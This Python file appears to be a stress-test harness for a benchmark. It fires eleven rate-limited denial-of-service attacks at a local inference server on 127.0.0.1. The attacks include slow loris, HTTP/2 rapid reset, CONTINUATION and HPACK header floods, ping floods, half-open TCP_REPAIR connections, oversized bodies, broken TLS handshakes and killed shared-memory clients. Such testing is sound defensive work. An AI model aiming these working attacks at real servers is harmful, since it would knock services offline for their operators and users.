"""Attackers of bench/wire_attacks.py, which starts this program; it ends with its standard input.

    python bench/wire_attackers.py ATTACK HTTP_PORT GRPC_PORT TLS_PORT SHM_NAME

Each attack keeps to a rate, reaches 127.0.0.1 alone, and sends only what any client of the server could send. The
program prints "ready", and at its end one JSON object that says how much it did.
"""

import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

import headrace

_HOST = "127.0.0.1"
_SILENT = 1000  # connections that stay open
_TRICKLES = 200
_TRICKLE_SECONDS = 0.05  # from byte to byte
_UNREAD = 64
_UNREAD_A_SECOND = 16.0
_A_SECOND = 20.0  # connections of an attack that makes new ones
_VANISH_A_SECOND = 200.0
_KILLED_A_SECOND = 10.0
_TIMEOUT_SECONDS = 5.0
_QUERY_WORDS = 256
_TCP_REPAIR = 19  # of Linux: a connection closed in this mode says nothing to its peer
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_INFER = "/v2/models/light/infer"


@dataclass(frozen=True)
class Target:
    """Where the server listens."""

    http: int
    grpc: int
    tls: int
    shm: str


def _connect(port: int) -> socket.socket:
    return socket.create_connection((_HOST, port), timeout=_TIMEOUT_SECONDS)


def _ended(seconds: float) -> bool:
    """Waits until standard input ends, for at most this long; whether it has ended."""
    return bool(select.select([sys.stdin], [], [], max(0.0, seconds))[0])


def _at_rate(per_second: float) -> Iterator[int]:
    """Numbers the attempts of an attack, at an even rate, until standard input ends."""
    began, number = time.monotonic(), 0
    while not _ended(began + number / per_second - time.monotonic()):
        yield number
        number += 1


def _is_closed(connection: socket.socket) -> bool:
    """Whether the server has closed a connection that is not read."""
    try:
        return connection.recv(1 << 16, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


class _Held:
    """Connections that are kept open: one that the server closes is opened again."""

    def __init__(self, count: int, open_one: Callable[[int], socket.socket]) -> None:
        self._open = open_one
        self.opened = 0
        self.connections: list[socket.socket | None] = [None] * count

    def renew(self, most: int) -> None:
        """Opens again what the server has closed, at most so many."""
        for place, connection in enumerate(self.connections):
            if connection is not None and not _is_closed(connection):
                continue
            if connection is not None:
                connection.close()
            self.connections[place] = None
            if most == 0:
                continue
            most -= 1
            with suppress(OSError):
                self.connections[place] = self._open(place)
                self.opened += 1

    def counts(self) -> dict[str, int]:
        """What the attack reports."""
        return {"opened": self.opened, "held": sum(one is not None for one in self.connections)}


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(value: bytes) -> bytes:
    """A string of HPACK without Huffman coding (RFC 7541, section 5.2); shorter than 16,511 bytes."""
    most = 127
    if len(value) < most:
        return bytes([len(value)]) + value
    low, high = (len(value) - most) % 128, (len(value) - most) // 128
    return bytes([most, low | 128, high]) + value if high else bytes([most, low]) + value


def _field(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _text(name) + _text(value)


def _call_head(stream: int, flags: int = _END_HEADERS, more: bytes = b"") -> bytes:
    path = b"/inference.GRPCInferenceService/ModelInfer"
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"))
    block = b"".join(_field(*one) for one in fields) + _field(b"content-type", b"application/grpc") + more
    return _frame(_HEADERS, flags, stream, block)


def _message() -> bytes:
    """A ModelInferRequest of one query, with gRPC's prefix."""
    tensor = b"\x0a\x05query\x12\x06UINT32\x1a\x03\x01\x80\x02"
    raw = random.randbytes(4 * _QUERY_WORDS)
    body = b"\x0a\x05light\x2a" + bytes([len(tensor)]) + tensor + b"\x3a\x80\x08" + raw
    return struct.pack(">BI", 0, len(body)) + body


def _json_request() -> bytes:
    data = [random.getrandbits(32) for _ in range(_QUERY_WORDS)]
    tensor = {"name": "query", "datatype": "UINT32", "shape": [1, _QUERY_WORDS], "data": data}
    body = json.dumps({"inputs": [tensor]}).encode()
    return f"POST {_INFER} HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def _throw(port: int, content: bytes, *, reads: bool = True) -> bool:
    """Sends it on a connection of its own, and reads until the server closes; whether it did."""
    with suppress(OSError), _connect(port) as connection:
        connection.settimeout(0.2)
        connection.sendall(content)
        while reads and connection.recv(1 << 16):
            pass
        return True
    return False


def _thrown(made: list[tuple[int, bytes]], per_second: float = _A_SECOND) -> dict[str, int]:
    """Sends one after another of (port, content), in turn, until standard input ends."""
    closed = sent = 0
    for number in _at_rate(per_second):
        closed += _throw(*made[number % len(made)])
        sent += 1
    return {"connections": sent, "closed_by_server": closed}


def silent(to: Target) -> dict[str, int]:
    """1,000 connections to all ports, which send nothing."""
    ports = (to.http, to.grpc, to.tls)
    held = _Held(_SILENT, lambda place: _connect(ports[place % 3]))
    held.renew(_SILENT)
    while not _ended(0.2):
        held.renew(100)
    return held.counts()


def trickle(to: Target) -> dict[str, int]:
    """200 requests (slow loris) of which a byte comes every 50 ms: of the head, of a body, of a gRPC message."""
    whole = _json_request()
    head_end = whole.index(b"\r\n\r\n") + 4
    stories = (
        (to.http, b"", whole),
        (to.http, whole[:head_end], whole[head_end:]),
        (to.grpc, _PREFACE + _frame(_SETTINGS, 0, 0) + _call_head(1), _frame(_DATA, 0, 1, _message())),
    )
    sent = [0] * _TRICKLES

    def opened(place: int) -> socket.socket:
        port, at_once, _ = stories[place % 3]
        connection = _connect(port)
        connection.sendall(at_once)
        sent[place] = 0
        return connection

    held, written = _Held(_TRICKLES, opened), 0
    while not _ended(_TRICKLE_SECONDS):
        held.renew(20)
        for place, connection in enumerate(held.connections):
            content = stories[place % 3][2]
            with suppress(OSError):
                if connection is not None and sent[place] < len(content):
                    written += connection.send(content[sent[place] : sent[place] + 1])
                    sent[place] += 1
    return {**held.counts(), "bytes": written}


def half_open(to: Target) -> dict[str, int]:
    """200 connections a second whose client vanishes without a FIN, half of them within a request. Needs root."""
    ports, vanished = (to.http, to.grpc, to.tls), 0
    for number in _at_rate(_VANISH_A_SECOND):
        with suppress(ConnectionError, TimeoutError):
            connection = _connect(ports[number % 3])
            if number % 2:
                connection.sendall(b"POST " if number % 3 == 0 else _PREFACE[:9])
            connection.setsockopt(socket.IPPROTO_TCP, _TCP_REPAIR, 1)
            connection.close()
            vanished += 1
    return {"vanished": vanished}


def garbage(to: Target) -> dict[str, int]:
    """Random bytes, also behind a right beginning."""
    draws = random.Random(1)
    starts = (b"", b"GET / HTTP/1.1\r\n", _json_request()[:200], _PREFACE, _PREFACE + _frame(_SETTINGS, 0, 0))
    ports = (to.http, to.http, to.http, to.grpc, to.grpc)
    made = [
        (port, start + draws.randbytes(draws.randrange(1, 4096)))
        for _ in range(20)
        for port, start in zip(ports, starts, strict=True)
    ]
    return _thrown(made + [(to.tls, draws.randbytes(512)) for _ in range(20)])


def oversized(to: Target) -> dict[str, int]:
    """Heads, bodies, JSON and messages beyond every limit."""
    head = f"POST {_INFER} HTTP/1.1\r\nHost: a\r\n".encode()
    deep = b'{"inputs":' + b"[" * 100_000
    chunk = b"Transfer-Encoding: chunked\r\n\r\nffffffffff\r\n"
    opened = _PREFACE + _frame(_SETTINGS, 0, 0) + _call_head(1)
    made = [
        (to.http, head + b"X: " + b"x" * (1 << 20) + b"\r\n\r\n"),
        (to.http, head + b"Content-Length: 99999999999\r\n\r\n" + bytes(1 << 16)),
        (to.http, head + f"Content-Length: {len(deep)}\r\n\r\n".encode() + deep),
        (to.http, head + chunk + bytes(1 << 16)),
        (to.grpc, opened + _frame(_DATA, 0, 1, struct.pack(">BI", 0, 0xFFFFFFFF) + bytes(1000))),
        (to.grpc, _PREFACE + struct.pack(">I", (1 << 24) - 1)[1:] + bytes(1 << 16)),
    ]
    return _thrown(made)


def headers(to: Target) -> dict[str, int]:
    """Floods of header fields: many in a request, without an end in HTTP/2, and from HPACK's table again and again."""
    many = b"".join(b"X-%d: y\r\n" % number for number in range(100_000))
    opened = _PREFACE + _frame(_SETTINGS, 0, 0)
    flood = b"".join(_frame(_CONTINUATION, 0, 1, _field(b"x", b"y" * 100)) for _ in range(2000))
    entry = b"\x40" + _text(b"x") + _text(b"y" * 4000)  # kept in the table, and named by one byte from then on
    bombs = b"".join(_call_head(1 + 2 * number, more=entry + b"\xbe" * 10_000) for number in range(20))
    return _thrown(
        [
            (to.http, b"GET /v2 HTTP/1.1\r\n" + many + b"\r\n"),
            (to.grpc, opened + _call_head(1, flags=0) + flood),
            (to.grpc, opened + bombs),
        ]
    )


def resets(to: Target) -> dict[str, int]:
    """Rapid resets: calls that are cancelled as fast as they open (CVE-2023-44487)."""
    one = b"".join(
        _call_head(stream) + _frame(_RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in range(1, 8001, 2)
    )
    return _thrown([(to.grpc, _PREFACE + _frame(_SETTINGS, 0, 0) + one)], 10.0)


def pings(to: Target) -> dict[str, int]:
    """Pings and settings, whose answers nobody reads."""
    flood = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0)) * 5000
    return _thrown([(to.grpc, _PREFACE + _frame(_SETTINGS, 0, 0) + flood)], 10.0)


def unread(to: Target) -> dict[str, int]:
    """64 clients that ask and take no answer: by HTTP without reading, by gRPC with windows of 0 bytes."""
    closed_window = _PREFACE + _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0))

    held: deque[socket.socket] = deque()
    number = 0
    for number in _at_rate(_UNREAD_A_SECOND):
        with suppress(OSError):
            connection = _connect(to.grpc if number % 2 else to.http)
            held.append(connection)
            connection.setblocking(False)
            calls = b"".join(
                _call_head(stream) + _frame(_DATA, _END_STREAM, stream, _message()) for stream in range(1, 65, 2)
            )
            connection.send(closed_window + calls if number % 2 else _json_request() * 64)
        if len(held) > _UNREAD:
            held.popleft().close()
    return {"opened": number}


def handshakes(to: Target) -> dict[str, int]:
    """TLS handshakes that stop half way, carry other bytes, or name other versions."""
    hello = bytes.fromhex("160301") + struct.pack(">H", 512) + b"\x01\x00\x01\xfc\x03\x03" + random.randbytes(506)
    old = b"\x16\x03\x00" + struct.pack(">H", 64) + b"\x01\x00\x00\x3c\x03\x00" + random.randbytes(58)
    return _thrown([(to.tls, hello[:100]), (to.tls, hello), (to.tls, old), (to.tls, b"GET / HTTP/1.1\r\n\r\n")], 40.0)


def rings(to: Target) -> dict[str, int]:
    """Clients of shared memory that are killed with queries in flight, and messages that none of them would send."""
    draws, killed, messages = random.Random(1), 0, 0
    for number in _at_rate(_KILLED_A_SECOND):
        with suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as peer:
            peer.settimeout(_TIMEOUT_SECONDS)
            peer.connect(f"\0headrace/{os.geteuid()}/{to.shm}")
            peer.send(draws.randbytes(draws.randrange(1, 256)))
            messages += 1
        if number % 2:
            continue
        child = os.fork()
        if child == 0:
            with suppress(headrace.Error):
                client = headrace.Client(f"shm://{to.shm}/light", slots=64)
                for _ in range(64):
                    client.submit(random.randbytes(4 * _QUERY_WORDS))
            os.kill(os.getpid(), signal.SIGKILL)
        os.waitpid(child, 0)
        killed += 1
    return {"killed": killed, "messages": messages}


ATTACKS: dict[str, Callable[[Target], dict[str, int]]] = {
    attack.__name__: attack
    for attack in (
        silent,
        trickle,
        half_open,
        garbage,
        oversized,
        headers,
        resets,
        pings,
        unread,
        handshakes,
        rings,
    )
}


def main() -> None:
    """Runs the program."""
    kind, http, grpc, tls, shm = sys.argv[1:]
    print("ready", flush=True)
    print(json.dumps(ATTACKS[kind](Target(int(http), int(grpc), int(tls), shm))))


if __name__ == "__main__":
    main()
